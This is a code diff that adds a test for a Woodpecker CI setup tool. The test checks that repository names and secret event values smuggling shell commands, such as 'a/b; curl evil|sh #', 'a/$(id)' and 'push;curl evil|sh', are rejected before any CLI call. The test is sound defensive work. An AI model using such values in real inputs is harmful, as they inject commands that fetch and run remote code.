@@ -324,6 +324,23 @@ describe('gitops-status woodpecker setup', () => {
       assert.match(out, /is for the plugins plugins\/\*\*\*(==?)? only/)
     })
 
+    it('is a name that would be a command of its own in one that is to be copied', async () => {
+      for (const fullName of ['a/b; curl evil|sh #', 'a/$(id)', 'a/b\n', '--x/y', 'rsyslog', '']) {
+        const { code, out, requests } = await setUpWith({ fullName, secrets: [] })
+        assert.equal(code, 1, fullName)
+        assert.match(
+          out,
+          /^✗ Woodpecker: its answer was not understood: the repository: full_name must be OWNER\/NAME/m,
+        )
+        assert.doesNotMatch(out, /woodpecker-cli/)
+        assert.deepEqual(wrote(requests), [])
+      }
+      const { code, out } = await setUpWith({ secrets: [{ name: 'ssh_private_key', events: ['push;curl evil|sh'] }] })
+      assert.equal(code, 1)
+      assert.match(out, /a secret: an event must be a word, not "push;curl evil\|sh"$/m)
+      assert.doesNotMatch(out, /woodpecker-cli/)
+    })
+
     it('is named all at once when settings are missing or wrong', async () => {
       const { code, err } = await setUp({ url: 'ci.example.org', token: 'tok en' }, [
         '--schedule',
